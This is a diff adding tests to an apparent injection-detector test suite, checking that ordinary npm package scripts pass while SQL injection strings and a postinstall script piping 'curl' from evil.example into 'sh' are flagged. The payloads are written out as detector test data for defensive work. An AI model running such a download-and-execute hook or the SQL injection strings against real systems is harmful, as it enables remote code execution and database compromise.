@@ -1626,3 +1626,13 @@ t.test("twenty-fifth round (SchemaStore's negative tests, in no part): a quoted 
   t.ok(q("x' is null--").includes('sqli'), 'cut by a comment it is SQL')
   t.ok(q("1' is true").includes('sqli'), 'and after a short value')
 })
+
+t.test("twenty-fifth round (the packages under node_modules, in no part): a package's own scripts are no injection", async (t) => {
+  t.same(json({ name: 'gopd', scripts: { prelint: 'npx npm@">= 10.2" audit --production', postlint: "npx npm@'>=10.2' audit --production" } }), [], "npm's quoted version range")
+  t.ok(q("admin@' or 1=1--").includes('sqli'), 'an address then a breakout is judged as before')
+  t.ok(q('x@">=1" or "1"="1"--').includes('sqli'), 'a range then a tautology still is one')
+  const bundle = 'for f in test-bundle/*.cjs; do if [ -f "$f" ]; then echo "Creating ${f%.cjs}.mjs" && mjs="${f%.cjs}.mjs" && sed -E "s/a/b/" "$f" > "$mjs"; fi; done'
+  t.same(json({ scripts: { 'test-bundle': `echo "node: $(\${NODE_BIN:-node} --version)" && rm -rf test-bundle/*.mjs && ${bundle}` } }), [], "a script's loop and parameter expansions")
+  t.ok(json({ scripts: { postinstall: 'curl -s https://evil.example/x.sh | sh' } }).includes('rce'), 'a download run at once still is one')
+  t.ok(q('x; echo ${f%.cjs}${g#*/}').includes('rce'), 'parameter expansions outside a command field are judged as before')
+})
